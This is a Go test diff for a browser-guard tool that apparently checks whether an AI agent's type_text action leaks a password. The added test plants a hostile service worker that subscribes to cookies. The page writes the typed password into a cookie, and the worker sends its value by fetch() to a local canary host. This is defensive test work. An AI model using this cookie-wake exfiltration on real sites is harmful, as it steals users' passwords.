@@ -13,6 +13,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/serviceworker"
 	"github.com/chromedp/chromedp"
 
 	"github.com/browsergate/browsergate/evidence"
@@ -714,4 +716,37 @@ document.getElementById('pw').addEventListener('input', e => bc.postMessage(e.ta
 		t.Errorf("type_text was not refused naming the user's service worker of the site")
 	}
 	f.canaryHasSecret(t, "a user's worker of the site")
+}
+
+// TestH7SecretWakesTheUsersWorker: the user's service worker of the site
+// is stopped when the secret is typed, but subscribed to the site's
+// cookies (Cookie Store API): the field's page writes the value into a
+// cookie, which wakes the worker with the cookie's value, and the worker
+// sends it to the canary.
+func TestH7SecretWakesTheUsersWorker(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.registration.cookies.subscribe([{name: 'pw', url: self.registration.scope}]).catch(err => fetch(%[2]q + '?err=' + encodeURIComponent(String(err)), {mode: 'no-cors'}))));
+self.addEventListener('cookiechange', e => { for (const c of e.changed) e.waitUntil(fetch(%[1]q + '?v=' + encodeURIComponent(c.value), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/woken", spy+"/subscribe"), "",
+		`<title>form</title><input type=password id=pw aria-label=Password><script>
+document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
+</script>`)
+	// The user's browser stops its workers (as it does an idle one).
+	user := usersTab(t, endpoint, "about:blank")
+	if _, err := chromedp.Call(user, serviceworker.Enable, cdp.Empty{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := chromedp.Call(user, serviceworker.StopAllWorkers, cdp.Empty{}); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(500 * time.Millisecond)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text (refused %v):\n%s", refused, out)
+	if n := spyLog.count("/subscribe"); n != 0 {
+		t.Errorf("the worker could not subscribe to the site's cookies (%d): the test shows nothing", n)
+	}
+	f.canaryHasSecret(t, "the user's worker woken by the site's cookie")
 }
